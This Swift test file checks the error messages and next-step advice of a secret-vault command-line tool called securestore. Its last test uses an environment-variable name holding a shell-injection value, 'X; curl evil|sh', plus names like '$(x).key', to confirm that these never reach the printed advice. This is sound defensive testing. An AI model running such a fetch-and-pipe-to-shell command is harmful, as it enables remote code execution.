import Foundation
import Testing

/// What the program says when it can't do what it was asked: where it failed, and what to do next.
struct AdviceTests {
  @Test func aVaultThatCanOnlyBeReadIsToldOfInWordsOfTheProgram() throws {
    let tool = try Tool()
    _ = try tool.run("set", "A", input: "x")
    try tool.locking(tool.data) {
      #expect(try tool.runUnprivileged(["get", "A"]).text == "x")
      for arguments in [["remove", "A"], ["compact"], ["recovery"]] {
        let refused = try tool.runUnprivileged(arguments)
        #expect(refused.code == 17)
        #expect(refused.errors.contains("\(tool.vault): the vault can't be written to"))
        #expect(refused.errors.contains("make its file and its folder writable"))
        #expect(!refused.errors.contains("VaultAccess"))
      }
    }
    #expect(try tool.run("get", "A").text == "x")
  }

  @Test func whatAVaultOpensWithAndHowToGiveItIsSaid() throws {
    let tool = try Tool()
    try FileManager.default.copyItem(atPath: tool.keyFile, toPath: tool.path("other.key"))
    let renamed = try tool.run("list", "--key-file", "other.key")
    #expect(renamed.code == 10)
    #expect(renamed.errors.contains("opens with file master.key, not with file other.key"))
    #expect(renamed.errors.contains("give --key-file PATH/master.key; a renamed key file"))
    let recovery = try tool.run("list", "--recovery-fd", "0", input: "never asked for")
    #expect(recovery.code == 10)
    #expect(recovery.errors.contains("not with a recovery key: give --key-file PATH/master.key"))
    let unlisted = try tool.run("list", "--credential", "x", "--json")
    #expect(unlisted.code == 10)
    let message = try unlisted.error()["message"] as? String
    #expect(message?.contains("not with that systemd credential") == true)

    #expect(try tool.run("init", "--vault", "b.vault", "--key-file", "b.key").code == 0)
    let own = try tool.run("list", "--vault", "b.vault", "--app", "com.example.tool")
    #expect(own.code == 10)
    #expect(own.errors.contains("give --key-file PATH/b.key"))
    tool.environment["SECURESTORE_APP"] = nil
    tool.environment["SECURESTORE_VAULT"] = "b.vault"
    tool.environment["SECURESTORE_KEY_FILE"] = tool.path("other.key")
    #expect(try tool.run("list").errors.contains("give --key-file PATH/b.key"))
    tool.environment["SECURESTORE_KEY_FILE"] = "b.key"
    #expect(try tool.run("list").code == 0)
  }

  @Test func whereAKeyThatIsMissingWasLookedForIsSaid() throws {
    let tool = try Tool(hasVault: false)
    try tool.write("a passphrase", to: "c")
    let unset = try tool.run("init", "--credential", "c")
    #expect(unset.code == 10)
    #expect(unset.errors.contains("systemd credential c (CREDENTIALS_DIRECTORY is not set)"))
    tool.environment["CREDENTIALS_DIRECTORY"] = tool.folder.path
    #expect(try tool.run("init", "--credential", "c").code == 0)
    try FileManager.default.removeItem(atPath: tool.path("c"))
    let gone = try tool.run("list", "--credential", "c")
    #expect(gone.code == 10)
    #expect(gone.errors.contains("opens only with systemd credential c"))
    #expect(gone.errors.contains("\(tool.path("c")) does not exist"))
    let variable = try tool.run("init", "--vault", "v.vault", "--key-env", "UNSET")
    #expect(variable.errors.contains("environment UNSET (the variable is not set)"))
  }

  @Test func aFileThatCanNotBeMadeIsTheOneThatWasNamed() throws {
    let tool = try Tool()
    let folder = tool.path("locked")
    try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: false)
    try tool.locking(folder) {
      let arguments = [
        ("copy.vault", ["backup", folder + "/copy.vault"]),
        ("new.key", ["slots", "add", "--new-key-file", folder + "/new.key"]),
        (
          "new.vault",
          ["init", "--vault", folder + "/new.vault", "--key-file", tool.keyFile]
        ),
      ]
      for (name, arguments) in arguments {
        let refused = try tool.runUnprivileged(arguments)
        #expect(refused.code == 17)
        #expect(
          refused.errors.contains("\(folder)/\(name): could not create the file: "),
          "\(refused.errors)")
      }
    }
  }

  @Test func aBackupIsNotMadeInAFolderThatIsNotThere() throws {
    let tool = try Tool()
    let refused = try tool.run("backup", "mistyped/deep/copy.vault")
    #expect(refused.code == 69)
    #expect(refused.errors.contains("\(tool.path("mistyped")): the folder does not exist"))
    #expect(!FileManager.default.fileExists(atPath: tool.path("mistyped")))
    try FileManager.default.createDirectory(
      atPath: tool.path("mistyped/deep"), withIntermediateDirectories: true)
    #expect(try tool.run("backup", "mistyped/deep/copy.vault").code == 0)
  }

  @Test func foldersThatAreMadeAreNamed() throws {
    let tool = try Tool(hasVault: false)
    let standard = try tool.run("init")
    #expect(standard.code == 0)
    #expect(!standard.errors.contains("did not exist"))
    let made = try tool.run(
      "init", "--vault", "new/deep/a.vault", "--key-file", "keys/a.key", "--json")
    #expect(try made.json()["folders"] as? [String] == [tool.path("keys"), tool.path("new")])
    let again = try tool.run("init", "--vault", "new/deep/b.vault", "--key-file", "keys/a.key")
    #expect(!again.errors.contains("did not exist"))

    #expect(try tool.run("backup", "copy.vault").code == 0)
    let named = try tool.run(
      "restore", "copy.vault", "--vault", "other/c.vault", "--key-file", tool.keyFile)
    #expect(named.code == 0, "\(named.errors)")
    #expect(named.errors.contains("\(tool.path("other")) did not exist, and was created"))
  }

  @Test func whatIsInTheWayIsCalledWhatItIs() throws {
    let tool = try Tool()
    let manager = FileManager.default
    try manager.createSymbolicLink(
      atPath: tool.path("broken"), withDestinationPath: tool.path("nowhere"))
    try manager.createSymbolicLink(
      atPath: tool.path("link"), withDestinationPath: tool.vault)
    try manager.createDirectory(
      atPath: tool.path("folder"), withIntermediateDirectories: false)
    try tool.write("x", to: "file")
    let words = [
      "broken": "a broken link is already there", "link": "a link is already there",
      "folder": "a folder is already there", "file": "a file is already there",
    ]
    for (name, words) in words {
      for arguments in [
        ["init", "--vault", name, "--key-file", "new.key"], ["backup", name],
        ["export", "--to", name],
      ] {
        let refused = try tool.run(arguments)
        #expect(refused.code == 3)
        #expect(refused.errors.contains(words), "\(refused.errors)")
      }
    }
    #expect(!manager.fileExists(atPath: tool.path("nowhere")))
  }

  @Test func aCommandThatThereIsNotIsCalledThat() throws {
    let tool = try Tool(hasVault: false)
    for (typed, near) in [("lst", "list"), ("restor", "restore"), ("verfy", "verify")] {
      let refused = try tool.run(typed, "--json")
      #expect(refused.code == 64)
      let message = try #require(try refused.error()["message"] as? String)
      #expect(message.contains("securestore has no such command; did you mean \(near)?"))
    }
    let secret = try tool.run("hunter2-value")
    #expect(secret.code == 64)
    #expect(secret.errors.contains("securestore has no such command."))
    #expect(secret.errors.contains("securestore --help"))
    #expect(!secret.errors.contains("hunter2"))
    let nested = try tool.run("slots", "remov", "1")
    #expect(nested.code == 64)
    #expect(nested.errors.contains("securestore slots has no such command; did you mean remove?"))
    #expect(try tool.run("help").code == 0)
    #expect(try tool.run("help", "slots").code == 0)
    #expect(try tool.run().text.contains("SUBCOMMANDS"))
  }

  @Test func whoeverVerifiesADamagedVaultIsNotToldToVerifyIt() throws {
    let tool = try Tool()
    _ = try tool.run("set", "A", input: "x")
    #expect(try tool.run("compact").code == 0)
    #expect(try tool.run("backup", "copy.vault").code == 0)
    let whole = try Data(contentsOf: URL(fileURLWithPath: tool.vault))
    for pages in [0.75, 2.25] {
      let left = whole.prefix(Int(pages * Double(whole.pageSize)))
      try left.write(to: URL(fileURLWithPath: tool.vault))
      #expect(try tool.run("list").errors.contains("or verify it"))
      for arguments in [["verify"], ["repair", "--yes"]] {
        let refused = try tool.run(arguments)
        #expect(refused.code == 12)
        #expect(refused.errors.contains("\(tool.vault): it can't be checked or repaired"))
        #expect(refused.errors.contains("restore replaces it with a backup"))
        #expect(!refused.errors.contains("verify it"))
      }
    }
    // What it says to do next does it.
    let restored = try tool.run("restore", "copy.vault", "--yes")
    #expect(restored.code == 0, "\(restored.errors)")
    #expect(try tool.run("get", "A").text == "x")

    var broken = try Data(contentsOf: URL(fileURLWithPath: tool.vault))
    broken.breakPage(1)
    try broken.write(to: URL(fileURLWithPath: tool.vault))
    let found = try tool.run("verify")
    #expect(found.code == 2)
    #expect(found.text.contains("damagedFile: "))
    #expect(!found.text.contains("verify it"))
    #expect(found.errors.contains("restore a backup, or run repair"))
  }

  @Test func whereTheKeyIsAfterARotationIsSaid() throws {
    let tool = try Tool()
    let rotated = try tool.run("rotate", "--root", "--yes", "--new-key-file", "new.key")
    #expect(rotated.code == 0)
    #expect(rotated.errors.contains("the key is now in \(tool.path("new.key"))"))
    #expect(rotated.errors.contains("\(tool.keyFile) no longer opens this vault"))
    #expect(rotated.errors.contains("other data may be sealed under it too"))
    #expect(rotated.errors.contains("delete it and \(tool.keyFile).made"))
    #expect(!rotated.errors.contains("remove it"))
    let again = try tool.run(
      "rotate", "--root", "--yes", "--key-file", "new.key", "--new-key-file", "newer.key", "--json")
    #expect(try again.json()["keyFile"] as? String == tool.path("newer.key"))
    #expect(try again.json()["oldKeyFile"] as? String == tool.path("new.key"))
    for name in ["new.key", "newer.key"] {
      #expect(FileManager.default.fileExists(atPath: tool.path(name)))
    }
    let same = try tool.run(
      "rotate", "--root", "--yes", "--key-file", "newer.key", "--new-key-file", "./newer.key")
    // Else a key that leaked would still open it, whatever its file is called.
    #expect(same.code == 64 && same.errors.contains("already opens the vault"))
    try tool.write("correct horse", to: "pass")
    let passphrase = try tool.run(
      "rotate", "--root", "--yes", "--key-file", "newer.key", "--new-passphrase-file", "pass",
      "--json")
    #expect(try passphrase.json()["keyFile"] == nil)
    #expect(try passphrase.json()["oldKeyFile"] as? String == tool.path("newer.key"))
    let data = try tool.run("rotate", "--passphrase-file", "pass")
    #expect(data.lines == [])
    #expect(!data.errors.contains("no longer opens this vault"))
  }

  @Test func aKeyFileThatHoldsNoKeyIsSaidToBeAPassphrase() throws {
    let tool = try Tool(hasVault: false)
    let words = "is used as a passphrase, since it is not Base64 of 32 bytes"
    try tool.write("hello-hello\n", to: "typed.key")
    let made = try tool.run("init", "--vault", "a.vault", "--key-file", "typed.key")
    #expect(made.code == 0)
    #expect(made.errors.contains("the content of file typed.key \(words)"))
    #expect(!made.errors.contains("hello-hello"))
    let slots = try tool.run("slots", "--vault", "a.vault", "--json").json()["slots"]
    #expect((slots as? [[String: Any]])?.map { $0["passphrase"] as? Bool } == [true])

    let key = try tool.run("init", "--vault", "b.vault", "--key-file", "made.key", "--json")
    let keySlots = try key.json()["slots"] as? [[String: Any]]
    #expect(keySlots?.map { $0["passphrase"] as? Bool } == [false])
    let own = ["--vault", "b.vault", "--key-file", "made.key"]
    tool.environment["TYPED"] = "hello-hello"
    let added = try tool.run(["slots", "add", "--new-key-env", "TYPED"] + own)
    #expect(added.errors.contains("the content of environment TYPED \(words)"))
    try tool.write("hello-there\n", to: "typed.key")
    let rotated = try tool.run(["rotate", "--root", "--yes", "--new-key-file", "typed.key"] + own)
    #expect(rotated.errors.contains("the content of file typed.key \(words)"))
    try tool.write("hello-hello", to: "pass")
    let passphrase = try tool.run("init", "--vault", "c.vault", "--passphrase-file", "pass")
    #expect(passphrase.code == 0)
    #expect(!passphrase.errors.contains(words))
    let changed = try tool.run(
      "slots", "change", "--yes", "--vault", "c.vault", "--passphrase-file", "pass",
      "--new-key-file",
      "typed.key")
    #expect(changed.errors.contains("the content of file typed.key \(words)"))
  }

  @Test func aKeyFileThatDoesNotOpenTheVaultIsNotCalledItsOldOne() throws {
    let tool = try Tool(hasVault: false)
    tool.environment["CREDENTIALS_DIRECTORY"] = tool.folder.path
    try tool.write(Data(repeating: 7, count: 32).base64EncodedString(), to: "securestorage-key")
    #expect(try tool.run("init").code == 0)
    let other = ["--vault", "other.vault", "--key-file"]
    #expect(try tool.run(["init"] + other + [tool.keyFile]).code == 0)
    // The name is that of a slot, but the key is another one: the credential opens the vault.
    #expect(try tool.run("slots", "add", "--new-key-file", "elsewhere/master.key").code == 0)
    let arguments = ["rotate", "--root", "--yes", "--new-key-file", "new.key"]
    let rotated = try tool.run(arguments)
    #expect(rotated.code == 0, "\(rotated.errors)")
    #expect(!rotated.errors.contains(tool.keyFile), "\(rotated.errors)")
    #expect(try tool.run(["list"] + other + [tool.keyFile]).code == 0)
  }

  @Test func whatARotationLeavesBehindIsSaidToBeUnderTheOldDataKey() throws {
    let tool = try Tool()
    #expect(try tool.run("set", "A", "--authentication-tag", "t", input: "x").code == 0)
    let rotated = try tool.run(
      "rotate", "--root", "--yes", "--keep-old-keys", "--new-key-file", "new.key")
    #expect(rotated.code == 2)
    #expect(rotated.errors.contains("1 value can't be opened or is not accounted for, and stays"))
    #expect(rotated.errors.contains("which the vault's new key opens, too"))
    let read = try tool.run("get", "A", "--authentication-tag", "t", "--key-file", "new.key")
    #expect(read.text == "x")
    let again = try tool.run("rotate", "--key-file", "new.key", "--json")
    #expect(again.code == 2)
    #expect(try again.json()["remaining"] as? Int == 1)
    #expect(again.errors.contains("which the vault's key opens, too"))
  }

  @Test func whatARotationSetsAsideIsSaidAndTakenBack() throws {
    let tool = try Tool()
    let tag = ["--authentication-tag", "t", "--key-file", "new.key"]
    #expect(try tool.run("set", "A", "--authentication-tag", "t", input: "x").code == 0)
    #expect(try tool.run("set", "B", input: "y").code == 0)
    let rotated = try tool.run("rotate", "--root", "--yes", "--new-key-file", "new.key")
    #expect(rotated.code == 2)
    #expect(rotated.errors.contains("1 value can't be read: it is missing, or was set aside"))
    #expect(rotated.errors.contains("rotate --resume --readmit"))
    #expect(try tool.run(["get", "A"] + tag).code == 12)
    let resumed = try tool.run("rotate", "--resume", "--key-file", "new.key", "--json")
    #expect(resumed.code == 2)
    #expect(try resumed.json()["setAside"] as? Int == 1)
    #expect(try resumed.json()["setAsideNames"] as? [String] == [])
    let back = try tool.run(["rotate", "--resume", "--readmit", "--json"] + tag)
    #expect(back.code == 0, "\(back.errors)")
    #expect(try back.json()["setAside"] as? Int == 0)
    #expect(try tool.run(["get", "A"] + tag).text == "x")
    #expect(try tool.run("get", "B", "--key-file", "new.key").text == "y")
    for arguments in [["--readmit"], ["--root", "--same-key", "--readmit"], ["--keep-old-keys"]] {
      #expect(try tool.run(["rotate"] + arguments).code == 64)
    }
  }

  /// How many pages are left of the file; nil for all of it, with a header that can't be read.
  @Test(arguments: [0.75, 2.25, nil])
  func damageIsToldOfBeforeAKeyIsAskedFor(_ pages: Double?) throws {
    let tool = try Tool()
    #expect(try tool.run("set", "A", input: "x").code == 0)
    #expect(try tool.run("compact").code == 0)
    var bytes = try Data(contentsOf: URL(fileURLWithPath: tool.vault))
    if let pages {
      bytes = bytes.prefix(Int(pages * Double(bytes.pageSize)))
    } else {
      // The length before the name of the key file.
      let name = try #require(bytes.range(of: Data("master.key".utf8)))
      bytes[name.lowerBound - 1] = 255
    }
    let made = FileManager.default.createFile(
      atPath: tool.path("d.vault"), contents: bytes, attributes: [.posixPermissions: 0o600])
    #expect(made)
    tool.environment["SECURESTORE_APP"] = nil
    for arguments in [
      ["verify", "--vault", "d.vault", "--key", "keyring"], ["verify", "--vault", "d.vault"],
      ["get", "A", "--vault", "d.vault"],
      ["repair", "--vault", "d.vault", "--key", "desktop", "--yes"],
      ["restore", "d.vault", "--vault", tool.vault, "--yes"],
    ] {
      let refused = try tool.run(arguments)
      #expect(refused.code == 12, "\(arguments): \(refused.errors)")
      #expect(refused.errors.contains("\(tool.path("d.vault")): "), "\(refused.errors)")
    }
    let sound = try tool.run("restore", tool.vault, "--vault", "d.vault", "--yes")
    #expect(sound.code == 64)
    #expect(sound.errors.contains("\(tool.vault): say which key"))
  }

  @Test func aNameThatAShellWouldRunIsNoPartOfTheAdvice() throws {
    let tool = try Tool(hasVault: false)
    let variable = "X; curl evil|sh"
    tool.environment[variable] = Data(repeating: 7, count: 32).base64EncodedString()
    tool.environment["CREDENTIALS_DIRECTORY"] = tool.folder.path
    try tool.write("hello there", to: "-c")
    let vault = ["--vault", "a.vault"]
    let key = vault + ["--key-env", variable]
    #expect(try tool.run(["init"] + key).code == 0)
    #expect(try tool.run(["slots", "add", "--new-credential=-c"] + key).code == 0)
    #expect(try tool.run(["slots", "add", "--new-key-file", "$(x).key"] + key).code == 0)
    #expect(try tool.run(["slots", "add", "--new-key-file", "a-1_b@c.key"] + key).code == 0)
    let refused = try tool.run(["list", "--passphrase-fd", "0"] + vault)
    #expect(refused.code == 10)
    #expect(
      refused.errors.contains(
        "give --key-env NAME or --credential NAME or --key-file PATH/NAME or "
          + "--key-file PATH/a-1_b@c.key"), "\(refused.errors)")
  }
}
